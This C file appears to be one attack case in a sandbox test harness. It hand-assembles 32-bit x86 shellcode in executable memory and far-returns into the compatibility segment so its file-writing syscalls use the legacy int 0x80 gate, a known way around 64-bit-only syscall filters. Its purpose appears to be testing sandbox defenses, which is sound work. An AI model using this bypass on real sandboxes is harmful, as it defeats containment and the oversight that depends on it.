#include "attack.h"
// Real 32-bit code: a far return into the compatibility segment, where every call enters by the old gate.
ATTACK(.judge = "proof") {
  unsigned char *code = mmap(0, 12288, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
  if (code == MAP_FAILED) return note("mmap");
  char *name = strcpy((char *)code + 4096, path(arg("work"), "proof")), *text = strcpy((char *)code + 6144, arg("proof"));
  unsigned char *c = code;
#define BYTE(...) ({ const unsigned char b[] = {__VA_ARGS__}; memcpy(c, b, sizeof b); c += sizeof b; })
#define WORD(v) ({ uint32_t w = (uint32_t)(uintptr_t)(v); memcpy(c, &w, 4); c += 4; })
  BYTE(0xb8), WORD(5), BYTE(0xbb), WORD(name), BYTE(0xb9), WORD(O_WRONLY | O_CREAT), BYTE(0xba), WORD(0644), BYTE(0xcd, 0x80);
  BYTE(0x89, 0xc3, 0xb8), WORD(4), BYTE(0xb9), WORD(text), BYTE(0xba), WORD(strlen(text)), BYTE(0xcd, 0x80);
  BYTE(0xb8), WORD(1), BYTE(0x31, 0xdb, 0xcd, 0x80);
  asm volatile("mov %0, %%rsp; push $0x23; push %1; lretq" : : "r"((long)code + 12000), "r"((long)code) : "memory");
}
